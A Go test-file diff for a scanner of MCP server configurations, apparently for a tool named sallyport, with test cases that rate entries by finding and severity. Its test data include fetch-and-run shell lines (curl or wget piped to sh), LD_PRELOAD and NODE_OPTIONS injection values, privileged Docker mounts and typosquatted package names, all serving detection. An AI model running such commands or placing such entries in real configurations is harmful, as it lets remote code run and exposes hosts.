@@ -2,14 +2,19 @@ package main
 
 import (
 	"bytes"
+	"cmp"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"net/url"
 	"os"
 	"path/filepath"
+	"runtime"
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/tidwall/gjson"
 
 	"sallyport/wrap/client"
 	"sallyport/wrap/pin"
@@ -78,146 +83,85 @@ func severitiesOf(x *scanned, kind string) string {
 	return strings.Join(list, " ")
 }
 
+// argv writes an entry whose command line is words.
 func argv(words ...string) string {
 	b, _ := json.Marshal(map[string]any{"command": words[0], "args": words[1:]})
 	return string(b)
 }
 
+// scanCases are entries, as JSON or as a command line with "¦" between words, by the finding that they have: its kind and its severity.
+// IMG stands for an image that is named by its digest, KEY for a credential.
+var scanCases = []struct {
+	kind, want string
+	entries    []string
+}{
+	{"shell", "medium", []string{"sh¦-c¦exec x", "/bin/bash¦-lc¦x", "sh¦-c¦curl -o f https://example.com/i", "sallyport¦wrap¦--¦sh¦-c¦x", "/usr/bin/env¦A=b¦bash¦-c¦x",
+		"powershell.exe¦-NoProfile¦-Command¦x", "pwsh¦-COMMAND¦x", "powershell¦-encodedcommand¦eAA=", "powershell¦-e¦eAA=", "cmd¦/c¦npx x@1.0.0 & start y",
+		"npx -y x@1.0.0", "npx -y @scope/server@1.0.0", "sh¦-c¦cd app && iex -S mix"}}, // iex is the shell of Elixir
+	{"shell", "high", []string{"sh¦-c¦curl -s https://example.com/i | sh", `sh¦-c¦sh -c "$(curl -fsSL https://example.com/i)"`, "bash¦-c¦bash <(curl -s https://example.com/i)",
+		"bash¦-c¦wget -qO- https://example.com/i | /bin/sh", "bash¦-c¦curl https://example.com/i | sudo -E bash"}},
+	{"shell", "low", []string{"cmd¦/c¦npx¦-y¦x@1.0.0", `C:\Windows\System32\cmd.exe¦/C¦npx¦x@1.0.0`, "cmd¦/d¦/s¦/c¦npx x@1.0.0", "env¦-S¦node x", "env¦--split-string=node x"}},
+	{"shell", "", []string{"bash¦start.sh", "server¦-c¦x", "powershell¦-File¦x.ps1", "env¦A=b¦node¦x.js", "/opt/My Apps/server"}},
+
+	{"floating", "medium", []string{"npx¦-y¦x", "npx¦x@latest", "npx¦x@^1.0.0", "uvx¦x", "docker¦run¦-i¦mcp/x:1"}},
+	{"floating", "", []string{"npx¦x@1.0.0", "uvx¦x==1.0.0", "docker¦run¦-i¦IMG", "/opt/x", "sallyport¦wrap¦--¦npx¦x"}},
+
+	{"lookalike", "high", []string{"npx¦-y¦@modelcontextprotocol/server-filesytem", "cmd¦/c¦npx¦-y¦mcp-remot", "npx.cmd¦-y¦mcp-remot", "env¦A=b¦npx¦-y¦mcp-remot", "pnpm¦dlx¦mcp-remot",
+		"uv¦tool¦run¦mcp-server-gti", "npx¦--package=mcp-remot¦x", "uvx¦--from¦mcp-server-gti¦x", "uvx¦--python¦3.12¦mcp-server-gti", "uvx¦--with¦mcp-server-gti¦mcp-server-git",
+		"uvx¦mcp-server-gti>=1.0", "sallyport¦wrap¦--¦npx¦mcp-remot"}},
+	{"lookalike", "", []string{"npx¦-y¦@modelcontextprotocol/server-filesystem@1.0.0", "npx¦./mcp-remot", "uvx¦mcp_server_fetch"}}, // PyPI takes - and _ for the same
+
+	{"broad", "medium", []string{"x¦/", "x¦--root=/", "x¦HOMEFOLDER", "x¦~/", "x¦~/.", "x¦HOMEFOLDER/..", `x¦C:\`, "x¦file:///", "docker¦run¦-v¦/:/host¦IMG", "docker¦run¦--volume=/:/host:ro¦IMG",
+		"docker¦run¦-v/:/host¦IMG", "docker¦run¦-v¦HOMEFOLDER:/host¦IMG", "docker¦run¦-v¦${env:HOME}:/host¦IMG", `docker¦run¦-v¦C:\:/host¦IMG`,
+		"docker¦run¦--mount¦type=bind,src=/,dst=/host¦IMG", "docker¦run¦--network¦host¦IMG"}},
+	{"broad", "high", []string{"docker¦run¦-v¦/var/run/docker.sock:/var/run/docker.sock¦IMG", "docker¦run¦--privileged¦IMG"}},
+	{"broad", "", []string{"x¦HOMEFOLDER/notes", "x¦/etc/x", "docker¦run¦-v¦HOMEFOLDER/notes:/notes¦IMG", "docker¦run¦-w¦/¦IMG", "docker¦run¦--network=bridge¦IMG"}},
+
+	// Clients take blanks from the ends of an address, and tabs from anywhere in it.
+	{"clear-text", "high", []string{`{"url":"http://mcp.example.com/mcp"}`, `{"url":"ws://mcp.example.com/mcp"}`, `{"url":"HTTP://mcp.example.com/mcp"}`, `{"url":" http://mcp.example.com/mcp"}`,
+		`{"url":"ht\ttp://mcp.example.com/mcp"}`, `{"url":"http://localhost.example.com/mcp"}`, `{"url":"http://127.0.0.1.example.com/mcp"}`}},
+	{"clear-text", "", []string{`{"url":"https://mcp.example.com/mcp"}`, `{"url":"http://127.0.0.1:3000/mcp"}`, `{"url":"http://[::1]:3000/mcp"}`, `{"url":"http://localhost:3000/mcp"}`}},
+	{"remote", "low", []string{`{"url":"https://mcp.example.com/mcp"}`}},
+	{"remote", "", []string{"x"}},
+
+	{"injection", "high", []string{`{"command":"x","env":{"LD_PRELOAD":"/x.so"}}`, `{"command":"x","env":{"NODE_OPTIONS":"-r x"}}`}},
+	{"injection", "", []string{`{"command":"x","env":{"NODE_ENV":"production"}}`}},
+	{"unwrapped", "medium", []string{"x", "sallyport¦log"}},
+	{"unwrapped", "low", []string{`{"command":"x","disabled":true}`}},
+	{"unwrapped", "", []string{"sallyport¦wrap¦--¦x", `{"url":"https://mcp.example.com/mcp"}`}},
+	{"broken-wrap", "high", []string{"/no/such/sallyport¦wrap¦--¦x"}},
+	{"odd", "low", []string{`{}`, `1`}},
+
+	{"plain-key", "high", []string{`{"command":"x","env":{"TOKEN":"KEY"}}`, `{"url":"https://mcp.example.com","headers":{"Authorization":"Bearer KEY"}}`, "x¦--token¦KEY",
+		`{"url":"https://mcp.example.com/?api_key=KEY"}`, `{"url":"https://mcp.example.com/?token=&token=KEY"}`, `{"url":"https://mcp.example.com/s/KEY/mcp"}`,
+		`{"url":"https://KEY@mcp.example.com/mcp"}`, `{"url":"https://u:Zq8vT3mXw2@mcp.example.com/mcp"}`}},
+	{"plain-key", "", []string{`{"command":"x","env":{"TOKEN":"keyring:x"}}`, `{"command":"x","env":{"TOKEN":"${env:TOKEN}"}}`, `{"url":"https://mcp.example.com/?region=eu"}`}},
+}
+
 func TestScanFindsWhatIsWrongWithAnEntry(t *testing.T) {
-	digest := "@sha256:" + strings.Repeat("a", 64)
-	for _, c := range []struct{ kind, name, entry, want string }{
-		{"shell", "sh -c", argv("sh", "-c", "exec x"), "medium"},
-		{"shell", "bash -lc", argv("/bin/bash", "-lc", "x"), "medium"},
-		{"shell", "a script is a program", argv("bash", "start.sh"), ""},
-		{"shell", "-c of another program", argv("server", "-c", "x"), ""},
-		{"shell", "fetched and run", argv("sh", "-c", "curl -s https://example.com/i | sh"), "high"},
-		{"shell", "fetched by substitution", argv("sh", "-c", `sh -c "$(curl -fsSL https://example.com/i)"`), "high"},
-		{"shell", "fetched for a shell with a path", argv("bash", "-c", "wget -qO- https://example.com/i | /bin/sh"), "high"},
-		{"shell", "fetched for sudo with flags", argv("bash", "-c", "curl https://example.com/i | sudo -E bash"), "high"},
-		{"shell", "fetched for a process substitution", argv("bash", "-c", "bash <(curl -s https://example.com/i)"), "high"},
-		{"shell", "fetched for a file is not run", argv("sh", "-c", "curl -o f https://example.com/i"), "medium"},
-		{"shell", "iex of Elixir fetches nothing", argv("sh", "-c", "cd app && iex -S mix"), "medium"},
-		{"shell", "powershell", argv("powershell.exe", "-NoProfile", "-Command", "x"), "medium"},
-		{"shell", "powershell in any case", argv("pwsh", "-COMMAND", "x"), "medium"},
-		{"shell", "powershell, encoded", argv("powershell", "-encodedcommand", "eAA="), "medium"},
-		{"shell", "powershell, encoded, short", argv("powershell", "-e", "eAA="), "medium"},
-		{"shell", "powershell with a file", argv("powershell", "-File", "x.ps1"), ""},
-		{"shell", "cmd /c npx", argv("cmd", "/c", "npx", "-y", "x@1.0.0"), "low"},
-		{"shell", "cmd /C npx", argv(`C:\Windows\System32\cmd.exe`, "/C", "npx", "x@1.0.0"), "low"},
-		{"shell", "cmd with flags before /c", argv("cmd", "/d", "/s", "/c", "npx x@1.0.0"), "low"},
-		{"shell", "cmd with a line of several commands", argv("cmd", "/c", "npx x@1.0.0 & start y"), "medium"},
-		{"shell", "env -S", argv("env", "-S", "node x"), "low"},
-		{"shell", "env --split-string", argv("env", "--split-string=node x"), "low"},
-		{"shell", "env in front of a shell", argv("/usr/bin/env", "A=b", "bash", "-c", "x"), "medium"},
-		{"shell", "env in front of a program", argv("env", "A=b", "node", "x.js"), ""},
-		{"shell", "a whole line as command", argv("npx -y x@1.0.0"), "medium"},
-		{"shell", "a whole line with a scope", argv("npx -y @scope/server@1.0.0"), "medium"},
-		{"shell", "a folder with a blank", argv("/opt/My Apps/server"), ""},
-		{"shell", "behind sallyport", argv("sallyport", "wrap", "--", "sh", "-c", "x"), "medium"},
-
-		{"floating", "npx", argv("npx", "-y", "x"), "medium"},
-		{"floating", "npx latest", argv("npx", "x@latest"), "medium"},
-		{"floating", "npx range", argv("npx", "x@^1.0.0"), "medium"},
-		{"floating", "npx exact", argv("npx", "x@1.0.0"), ""},
-		{"floating", "uvx", argv("uvx", "x"), "medium"},
-		{"floating", "uvx exact", argv("uvx", "x==1.0.0"), ""},
-		{"floating", "image by tag", argv("docker", "run", "-i", "mcp/x:1"), "medium"},
-		{"floating", "image by digest", argv("docker", "run", "-i", "mcp/x"+digest), ""},
-		{"floating", "a program", argv("/opt/x"), ""},
-		{"floating", "what is wrapped is pinned", argv("sallyport", "wrap", "--", "npx", "x"), ""},
-
-		{"lookalike", "a letter less", argv("npx", "-y", "@modelcontextprotocol/server-filesytem"), "high"},
-		{"lookalike", "the name itself", argv("npx", "-y", "@modelcontextprotocol/server-filesystem@1.0.0"), ""},
-		{"lookalike", "behind cmd", argv("cmd", "/c", "npx", "-y", "mcp-remot"), "high"},
-		{"lookalike", "npx.cmd", argv("npx.cmd", "-y", "mcp-remot"), "high"},
-		{"lookalike", "behind env", argv("env", "A=b", "npx", "-y", "mcp-remot"), "high"},
-		{"lookalike", "pnpm dlx", argv("pnpm", "dlx", "mcp-remot"), "high"},
-		{"lookalike", "uv tool run", argv("uv", "tool", "run", "mcp-server-gti"), "high"},
-		{"lookalike", "--package=", argv("npx", "--package=mcp-remot", "x"), "high"},
-		{"lookalike", "--from", argv("uvx", "--from", "mcp-server-gti", "x"), "high"},
-		{"lookalike", "a flag with a value first", argv("uvx", "--python", "3.12", "mcp-server-gti"), "high"},
-		{"lookalike", "with another package", argv("uvx", "--with", "mcp-server-gti", "mcp-server-git"), "high"},
-		{"lookalike", "with a version of PyPI", argv("uvx", "mcp-server-gti>=1.0"), "high"},
-		{"lookalike", "behind sallyport", argv("sallyport", "wrap", "--", "npx", "mcp-remot"), "high"},
-		{"lookalike", "an underscore means the same on PyPI", argv("uvx", "mcp_server_fetch"), ""},
-		{"lookalike", "a path", argv("npx", "./mcp-remot"), ""},
-
-		{"broad", "the root", argv("x", "/"), "medium"},
-		{"broad", "a flag with the root", argv("x", "--root=/"), "medium"},
-		{"broad", "the home folder", argv("x", "HOMEFOLDER"), "medium"},
-		{"broad", "the home folder as ~", argv("x", "~/"), "medium"},
-		{"broad", "the home folder by a detour", argv("x", "~/."), "medium"},
-		{"broad", "above the home folder", argv("x", "HOMEFOLDER/.."), "medium"},
-		{"broad", "a drive", argv("x", `C:\`), "medium"},
-		{"broad", "the root as a URI", argv("x", "file:///"), "medium"},
-		{"broad", "a folder in the home folder", argv("x", "HOMEFOLDER/notes"), ""},
-		{"broad", "a folder of etc", argv("x", "/etc/x"), ""},
-		{"broad", "docker -v /", argv("docker", "run", "-v", "/:/host", "mcp/x"+digest), "medium"},
-		{"broad", "docker -v=/", argv("docker", "run", "--volume=/:/host:ro", "mcp/x"+digest), "medium"},
-		{"broad", "docker -v/ in one word", argv("docker", "run", "-v/:/host", "mcp/x"+digest), "medium"},
-		{"broad", "docker -v home", argv("docker", "run", "-v", "HOMEFOLDER:/host", "mcp/x"+digest), "medium"},
-		{"broad", "docker -v ${env:HOME}", argv("docker", "run", "-v", "${env:HOME}:/host", "mcp/x"+digest), "medium"},
-		{"broad", "docker -v drive", argv("docker", "run", "-v", `C:\:/host`, "mcp/x"+digest), "medium"},
-		{"broad", "docker --mount", argv("docker", "run", "--mount", "type=bind,src=/,dst=/host", "mcp/x"+digest), "medium"},
-		{"broad", "docker -v folder", argv("docker", "run", "-v", "HOMEFOLDER/notes:/notes", "mcp/x"+digest), ""},
-		{"broad", "docker works in its root", argv("docker", "run", "-w", "/", "mcp/x"+digest), ""},
-		{"broad", "docker socket", argv("docker", "run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "mcp/x"+digest), "high"},
-		{"broad", "docker --privileged", argv("docker", "run", "--privileged", "mcp/x"+digest), "high"},
-		{"broad", "docker --network host", argv("docker", "run", "--network", "host", "mcp/x"+digest), "medium"},
-		{"broad", "docker --network bridge", argv("docker", "run", "--network=bridge", "mcp/x"+digest), ""},
-
-		{"clear-text", "http", `{"url":"http://mcp.example.com/mcp"}`, "high"},
-		{"clear-text", "ws", `{"url":"ws://mcp.example.com/mcp"}`, "high"},
-		{"clear-text", "HTTP", `{"url":"HTTP://mcp.example.com/mcp"}`, "high"},
-		{"clear-text", "a blank in front, which clients take away", `{"url":" http://mcp.example.com/mcp"}`, "high"},
-		{"clear-text", "a tab within, which clients take away", `{"url":"ht\ttp://mcp.example.com/mcp"}`, "high"},
-		{"clear-text", "https", `{"url":"https://mcp.example.com/mcp"}`, ""},
-		{"clear-text", "loopback", `{"url":"http://127.0.0.1:3000/mcp"}`, ""},
-		{"clear-text", "loopback of version 6", `{"url":"http://[::1]:3000/mcp"}`, ""},
-		{"clear-text", "localhost", `{"url":"http://localhost:3000/mcp"}`, ""},
-		{"clear-text", "a name that begins like localhost", `{"url":"http://localhost.example.com/mcp"}`, "high"},
-		{"clear-text", "another network that begins with 127", `{"url":"http://127.0.0.1.example.com/mcp"}`, "high"},
-		{"remote", "an address", `{"url":"https://mcp.example.com/mcp"}`, "low"},
-		{"remote", "a command", argv("x"), ""},
-		{"unwrapped", "a remote server", `{"url":"https://mcp.example.com/mcp"}`, ""},
-
-		{"injection", "LD_PRELOAD", `{"command":"x","env":{"LD_PRELOAD":"/x.so"}}`, "high"},
-		{"injection", "NODE_OPTIONS", `{"command":"x","env":{"NODE_OPTIONS":"-r x"}}`, "high"},
-		{"injection", "another variable", `{"command":"x","env":{"NODE_ENV":"production"}}`, ""},
-		{"unwrapped", "plain", argv("x"), "medium"},
-		{"unwrapped", "disabled", `{"command":"x","disabled":true}`, "low"},
-		{"unwrapped", "wrapped", argv("sallyport", "wrap", "--", "x"), ""},
-		{"unwrapped", "not our wrap", argv("sallyport", "log"), "medium"},
-		{"broken-wrap", "not there", argv("/no/such/sallyport", "wrap", "--", "x"), "high"},
-		{"odd", "no command", `{}`, "low"},
-
-		{"plain-key", "a variable", `{"command":"x","env":{"TOKEN":"` + scanKey + `"}}`, "high"},
-		{"plain-key", "a reference", `{"command":"x","env":{"TOKEN":"keyring:x"}}`, ""},
-		{"plain-key", "a variable of the client", `{"command":"x","env":{"TOKEN":"${env:TOKEN}"}}`, ""},
-		{"plain-key", "a header", `{"url":"https://mcp.example.com","headers":{"Authorization":"Bearer ` + scanKey + `"}}`, "high"},
-		{"plain-key", "an argument", argv("x", "--token", scanKey), "high"},
-		{"plain-key", "a query", `{"url":"https://mcp.example.com/?api_key=` + scanKey + `"}`, "high"},
-		{"plain-key", "the second of two of a name", `{"url":"https://mcp.example.com/?token=&token=` + scanKey + `"}`, "high"},
-		{"plain-key", "a path of an address", `{"url":"https://mcp.example.com/s/` + scanKey + `/mcp"}`, "high"},
-		{"plain-key", "a user of an address", `{"url":"https://` + scanKey + `@mcp.example.com/mcp"}`, "high"},
-		{"plain-key", "a password of an address", `{"url":"https://u:Zq8vT3mXw2@mcp.example.com/mcp"}`, "high"},
-		{"plain-key", "a harmless query", `{"url":"https://mcp.example.com/?region=eu"}`, ""},
-	} {
-		t.Run(c.kind+"/"+c.name, func(t *testing.T) {
-			x := scanEntry(t, c.entry)
-			if got := severitiesOf(x, c.kind); got != c.want {
-				t.Errorf("%s: %q, want %q", c.entry, got, c.want)
-			}
-			b, err := json.Marshal(x)
-			var out, sarif bytes.Buffer
-			(&scanning{list: []*scanned{x}}).print(&page{out: &out})
-			if err := writeSARIF(&sarif, "", []*scanned{x}); err != nil {
-				t.Fatal(err)
-			}
-			if all := string(b) + out.String() + sarif.String(); err != nil || strings.Contains(all, scanKey) || strings.Contains(all, "Zq8vT3mXw2") {
-				t.Errorf("a key is shown: %.300s", out.String())
-			}
-		})
+	stands := strings.NewReplacer("KEY", scanKey, "IMG", "mcp/x@sha256:"+strings.Repeat("a", 64))
+	for _, c := range scanCases {
+		for _, text := range c.entries {
+			t.Run(c.kind+"/"+cmp.Or(c.want, "none")+"/"+strings.ReplaceAll(text, "/", "⁄"), func(t *testing.T) {
+				entry := stands.Replace(text)
+				if text[0] != '{' && text != "1" {
+					entry = argv(strings.Split(entry, "¦")...)
+				}
+				x := scanEntry(t, entry)
+				if got := severitiesOf(x, c.kind); got != c.want {
+					t.Errorf("%s: %q, want %q", entry, got, c.want)
+				}
+				var out, sarif bytes.Buffer
+				b, err := json.Marshal(x)
+				if err = errors.Join(err, writeSARIF(&sarif, "", []*scanned{x})); err != nil {
+					t.Fatal(err)
+				}
+				(&scanning{list: []*scanned{x}}).print(&page{out: &out})
+				if all := string(b) + out.String() + sarif.String(); strings.Contains(all, scanKey) || strings.Contains(all, "Zq8vT3mXw2") {
+					t.Errorf("a key is shown: %.300s", out.String())
+				}
+			})
+		}
 	}
 }
 
@@ -236,11 +180,15 @@ func TestScanShowsNoKeyOfACommandLine(t *testing.T) {
 			}
 		})
 	}
+}
+
+func TestScanChecksExtensionsAsItChecksEntries(t *testing.T) {
 	home := t.TempDir()
-	writeTree(t, home, map[string]string{".gemini/extensions/e/gemini-extension.json": `{"mcpServers":{"s":` + argv("x", "--token", scanKey) + `}}`})
+	writeTree(t, home, map[string]string{".gemini/extensions/e/gemini-extension.json": `{"mcpServers":{"shell":` + argv("sh", "-c", "x") + `,"plain-key":` + argv("x", "--token", scanKey) +
+		`,"injection":{"command":"x","env":{"NODE_OPTIONS":"-r x"}},"broad":` + argv("docker", "run", "--privileged", "x") + `,"clear-text":{"httpUrl":"http://mcp.example.com"}}}`})
 	for _, x := range looked(t, scanOf(home)) {
-		if strings.Contains(x.Command, scanKey) || severitiesOf(x, "plain-key") == "" {
-			t.Errorf("of an extension: %q %v", x.Command, x.Findings)
+		if strings.Contains(x.Command, scanKey) || severitiesOf(x, x.Server) == "" {
+			t.Errorf("no %s: %q %v", x.Server, x.Command, x.Findings)
 		}
 	}
 }
@@ -266,34 +214,22 @@ func TestLookalike(t *testing.T) {
 
 // realPackages are other packages that exist: of servers, of what servers are made with, and of what their names are near.
 const realPackages = `
-	express koa fastify hono react react-dom vue svelte angular next nuxt vite webpack rollup esbuild parcel turbo nx lerna eslint prettier
-	typescript ts-node tsx nodemon pm2 jest vitest mocha chai playwright puppeteer cypress selenium-webdriver axios got node-fetch undici ws
-	socket.io graphql apollo-server prisma drizzle-orm typeorm sequelize knex mongoose mongodb redis ioredis pg mysql mysql2 sqlite3
-	better-sqlite3 stripe twilio openai @anthropic-ai/sdk @anthropic-ai/claude-code @openai/codex @google/gemini-cli @google/genai langchain
-	@langchain/core @langchain/mcp-adapters ai zod ajv yup dotenv commander yargs chalk ora inquirer lodash underscore ramda rxjs dayjs
-	moment date-fns uuid nanoid semver glob rimraf mkdirp fs-extra chokidar execa cross-env concurrently husky lint-staged
-	@types/node @babel/core @nestjs/core @angular/core @sveltejs/kit @supabase/supabase-js @sentry/node @sentry/cli @stripe/stripe-js
-	@notionhq/client @playwright/test @browserbasehq/sdk @browserbasehq/stagehand @octokit/rest @slack/web-api @slack/bolt @azure/identity
-	@aws-sdk/client-s3 aws-sdk aws-cdk @google-cloud/storage firebase firebase-tools firebase-admin vercel netlify-cli wrangler heroku
-	fastmcp mcp-framework mcp-use mcp-cli mcp-get mcp-handler mcp-hub mcporter xmcp create-mcp mcp-inspector @mcp-ui/server @mcp-ui/client
-	@modelcontextprotocol/client @modelcontextprotocol/server @modelcontextprotocol/core @modelcontextprotocol/ext-apps
-	@modelcontextprotocol/create-server @modelcontextprotocol/server-pdf @modelcontextprotocol/server-map
-	@salesforce/mcp @sap-ux/fiori-mcp-server @ui5/mcp-server @dynatrace-oss/dynatrace-mcp-server @launchdarkly/mcp-server @paypal/mcp
-	@auth0/auth0-mcp-server @contentful/mcp-server @sanity/mcp-server @storyblok/mcp-server @mapbox/mcp-server @microsoft/clarity-mcp-server
-	@softeria/ms-365-mcp-server @hyperbrowser/mcp @agentdeskai/browser-tools-mcp @last9/mcp-server @gitkraken/cli @ui5/cli
-	todoist-mcp-server linear-mcp-server trello-mcp-server jira-mcp-server airtable-mcp-server discord-mcp youtube-mcp
-	mcp-server-code-runner mcp-server-commands mcp-server-text-editor mcp-searxng mcp-package-version mcp-mermaid mcp-deepwiki
-	mcp-fetch-server mcp-playwright mcp-knowledge-graph mcp-youtube-transcript n8n-mcp n8n nodemailer octokit bitbucket-mcp gitlab-mcp
-	requests httpx aiohttp urllib3 flask django fastapi starlette uvicorn gunicorn pydantic sqlalchemy alembic psycopg psycopg2-binary
-	pymysql pymongo boto3 botocore numpy pandas scipy matplotlib scikit-learn torch transformers tokenizers datasets anthropic llama-index
-	pytest tox nox black ruff isort flake8 mypy pylint poetry pipenv virtualenv uv hatch setuptools wheel twine click typer rich textual
-	mcp mcp-agent mcp-server mcpo mcp-cli fastapi-mcp mcp-clickhouse mcp-server-mysql mcp-server-motherduck mcp-server-tree-sitter
-	mcp-server-calculator mcp-server-rijksmuseum mcp-server-reddit mcp-grafana mcp-neo4j-cypher mcp-neo4j-memory mcp-redis mcp-run-python
-	mcp-nixos mcp-simple-arxiv mcp-simple-pubmed mcp-alchemy mcp-text-editor mcp-gsuite mcp-shell-server mcp-youtube paper-search-mcp
-	chroma-mcp dbt-mcp redis-mcp-server yfinance-mcp oracle-mcp-server aws-mcp-server gcp-mcp powerpoint-mcp ppt-mcp
-	office-powerpoint-mcp-server awslabs.nova-canvas-mcp-server awslabs.cost-analysis-mcp-server awslabs.eks-mcp-server awslabs.ecs-mcp-server
-	awslabs.lambda-tool-mcp-server awslabs.dynamodb-mcp-server awslabs.postgres-mcp-server awslabs.mysql-mcp-server awslabs.iam-mcp-server
-	serena markitdown basic-memory-cli arxiv elevenlabs snowflake-connector-python qdrant-client duckduckgo-search`
+	express react react-dom vue svelte angular next nuxt vite nx eslint typescript vitest playwright puppeteer axios prisma drizzle-orm mongodb redis pg mysql better-sqlite3 stripe openai
+	@anthropic-ai/sdk @anthropic-ai/claude-code @openai/codex @google/gemini-cli @google/genai langchain @langchain/core @langchain/mcp-adapters ai dotenv semver @angular/core @sveltejs/kit
+	@supabase/supabase-js @sentry/node @sentry/cli @stripe/stripe-js @notionhq/client @playwright/test @browserbasehq/sdk @browserbasehq/stagehand @octokit/rest @slack/web-api @slack/bolt
+	@azure/identity @aws-sdk/client-s3 aws-sdk @google-cloud/storage firebase vercel netlify-cli wrangler heroku fastmcp mcp-framework mcp-use mcp-cli mcp-get mcp-handler cffi mcporter xmcp
+	create-mcp mcp-inspector @mcp-ui/server @mcp-ui/client @modelcontextprotocol/client @modelcontextprotocol/server @modelcontextprotocol/core @modelcontextprotocol/ext-apps
+	@modelcontextprotocol/create-server @modelcontextprotocol/server-pdf @modelcontextprotocol/server-map @salesforce/mcp @sap-ux/fiori-mcp-server @ui5/mcp-server
+	@dynatrace-oss/dynatrace-mcp-server @launchdarkly/mcp-server @paypal/mcp @auth0/auth0-mcp-server @contentful/mcp-server @sanity/mcp-server @storyblok/mcp-server @mapbox/mcp-server
+	@microsoft/clarity-mcp-server @softeria/ms-365-mcp-server @tanstack/react-query @agentdeskai/browser-tools-mcp @last9/mcp-server @gitkraken/cli @ui5/cli click linear-mcp-server
+	trello-mcp-server pillow airtable-mcp-server discord-mcp youtube-mcp mcp-server-code-runner mcp-server-commands mcp-server-text-editor mcp-searxng mcp-package-version mcp-mermaid
+	mcp-deepwiki mcp-fetch-server mcp-playwright mcp-knowledge-graph mcp-youtube-transcript n8n-mcp n8n nodemailer octokit bitbucket-mcp gitlab-mcp requests httpx aiohttp fastapi pydantic
+	anthropic llama-index uv mcp mcp-agent mcp-server mcpo fastapi-mcp mcp-clickhouse mcp-server-mysql mcp-server-motherduck mcp-server-tree-sitter mcp-server-calculator mcp-server-rijksmuseum
+	mcp-server-reddit mcp-grafana mcp-neo4j-cypher mcp-neo4j-memory mcp-redis mcp-run-python mcp-nixos mcp-simple-arxiv mcp-simple-pubmed mcp-alchemy mcp-text-editor mcp-gsuite mcp-shell-server
+	mcp-youtube paper-search-mcp chroma-mcp dbt-mcp redis-mcp-server yfinance-mcp oracle-mcp-server aws-mcp-server jinja2 powerpoint-mcp six office-powerpoint-mcp-server
+	awslabs.nova-canvas-mcp-server awslabs.cost-analysis-mcp-server awslabs.eks-mcp-server awslabs.ecs-mcp-server awslabs.lambda-tool-mcp-server awslabs.dynamodb-mcp-server
+	awslabs.postgres-mcp-server awslabs.mysql-mcp-server awslabs.iam-mcp-server serena markitdown arxiv elevenlabs snowflake-connector-python qdrant-client duckduckgo-search
+	jest webpack turbo zod ajv lodash commander chalk prettier pandas numpy sqlalchemy poetry rich typer flask django transformers torch boto3 pytest ruff black mypy pymongo inquirer socket.io`
 
 func TestScanSaysWhyAFileCannotBeRead(t *testing.T) {
 	for name, text := range map[string]string{
@@ -327,9 +263,12 @@ func TestScanSaysWhyAFileCannotBeRead(t *testing.T) {
 // cloneOf writes a folder that somebody else made.
 func cloneOf(t testing.TB) string {
 	t.Helper()
-	clone := t.TempDir()
+	clone, colon := t.TempDir(), ":"
+	if runtime.GOOS == "windows" {
+		colon = "-"
+	}
 	writeTree(t, clone, map[string]string{
-		"a:b c/.mcp.json":     `{"mcpServers":{"s\u001b[2J\u202e\n":{"command":"sh","args":["-c","x"],"env":{"LD_PRELOAD":"x","A\u202e_TOKEN":"` + scanKey + `"}}}}`,
+		strings.ReplaceAll("a:b c/.mcp.json", ":", colon): `{"mcpServers":{"s\u001b[2J\u202e\n":{"command":"sh","args":["-c","x"],"env":{"LD_PRELOAD":"x","A\u202e_TOKEN":"` + scanKey + `"}}}}`,
 		".vscode/mcp.json":    `{"servers":{"r":{"url":"http://mcp.example.com/?api_key=` + scanKey + `&x_token=0` + scanKey + `"}}}`,
 		".codex/config.toml":  "[mcp_servers.x\n",
 		"b/.cursor/mcp.json":  `{"mcpServers":{}}`,
@@ -350,31 +289,50 @@ func sarifOf(t testing.TB, paths ...string) string {
 	return b.String()
 }
 
-// A sarifLog has the members of SARIF 2.1.0 that have to be there, and those that code hosts ask for.
-type sarifLog struct {
-	Schema  string `json:"$schema"`
-	Version string
-	Runs    []struct {
-		Tool struct {
-			Driver struct {
-				Name  string
-				Rules []struct {
-					ID                     string
-					ShortDescription, Help struct{ Text string }
-				}
-			}
+// checkSARIF checks that a text has the members that SARIF 2.1.0 asks for, and those that code hosts ask for.
+func checkSARIF(t *testing.T, text, root string) {
+	t.Helper()
+	log := gjson.Parse(text)
+	if !json.Valid([]byte(text)) || log.Get("version").Str != "2.1.0" || log.Get("runs.#").Int() != 1 || log.Get("runs.0.tool.driver.name").Str == "" || !log.Get("runs.0.results").IsArray() {
+		t.Fatalf("%.200s", text)
+	}
+	rules, prints := map[string]bool{}, map[string]bool{}
+	var helpless []string
+	for _, r := range log.Get("runs.0.tool.driver.rules").Array() {
+		id := r.Get("id").Str
+		if rules[id] || id == "" || r.Get("shortDescription.text").Str == "" {
+			t.Errorf("rule %s", r.Raw)
 		}
-		Results *[]struct {
-			RuleID, Level string
-			Message       struct{ Text string }
-			Locations     []struct {
-				PhysicalLocation struct {
-					ArtifactLocation struct{ URI string }
-					Region           struct{ StartLine int }
-				}
-			}
-			PartialFingerprints map[string]string
+		if rules[id] = true; r.Get("help.text").Str == "" {
+			helpless = append(helpless, id)
 		}
+	}
+	if helpless != nil {
+		t.Errorf("rules without a help text: %q", helpless)
+	}
+	for _, r := range log.Get("runs.0.results").Array() {
+		at, print := r.Get("locations.0.physicalLocation"), r.Get("partialFingerprints").Raw
+		if !rules[r.Get("ruleId").Str] || !slices.Contains([]string{"note", "warning", "error"}, r.Get("level").Str) || r.Get("message.text").Str == "" || at.Get("region.startLine").Int() < 1 || len(print) < 5 {
+			t.Fatalf("result %s", r.Raw)
+		}
+		u, err := url.Parse(at.Get("artifactLocation.uri").Str)
+		if err != nil || u.Scheme != "" && u.Scheme != "file" {
+			t.Fatalf("%s: %v", at.Raw, err)
+		}
+		path := filepath.FromSlash(u.Path)
+		if u.Scheme == "" {
+			path = filepath.Join(root, path)
+		}
+		if _, err := os.Stat(path); err != nil && runtime.GOOS != "windows" {
+			t.Fatalf("%q leads nowhere", u)
+		}
+		if prints[print] {
+			t.Errorf("two results have the fingerprint %s", print)
+		}
+		prints[print] = true
+	}
+	if strings.ContainsAny(text, "\x1b\u202e\u009b") || strings.Contains(text, scanKey) {
+		t.Error("what should be hidden is shown")
 	}
 }
 
@@ -382,70 +340,15 @@ func TestSARIFHasWhatTheFormatAsksFor(t *testing.T) {
 	clone, other := cloneOf(t), cloneOf(t)
 	file := filepath.Join(clone, ".vscode", "mcp.json")
 	for name, paths := range map[string][]string{"a folder": {clone}, "a file": {file}, "two folders": {clone, other}, "nothing": {t.TempDir()}} {
